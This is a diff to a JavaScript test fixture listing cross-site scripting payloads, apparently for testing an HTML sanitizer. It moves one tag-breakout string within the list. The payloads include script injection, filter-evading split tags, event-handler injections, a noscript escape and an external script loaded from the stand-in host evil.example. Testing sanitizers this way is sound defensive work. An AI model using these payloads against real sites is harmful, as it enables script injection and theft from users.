@@ -6,6 +6,7 @@ const own = "document.documentElement.dataset.owned='yes'";
 
 export const HOSTILE_TEXT = [
   '<p>Harmless to begin with</p>',
+  '</p></div></div></section></article></main></body></html><p>Still inside</p><table><tr><td></div></table></td>',
   `<script>${own}</script><scr<script>ipt>${own}</scr</script>ipt><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `<img src=x onerror="${own}"><img src="https://evil.example/pixel.gif"><picture><source srcset=x></picture>`,
   `<svg onload="${own}"><script>${own}</script><use href="data:image/svg+xml,x#y"/></svg>`,
@@ -23,5 +24,4 @@ export const HOSTILE_TEXT = [
   '<button popovertarget="guide-contents">popover</button><dialog open>Dialog</dialog><details ontoggle="x" open><summary>d</summary></details>',
   '<template><script>x</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   `<textarea></textarea><img src=x onerror="${own}"></textarea><!--><img src=x onerror="${own}">--><![CDATA[<img src=x>]]>`,
-  '</p></div></div></section></article></main></body></html><p>Still inside</p><table><tr><td></div></table></td>',
 ].join('\n');
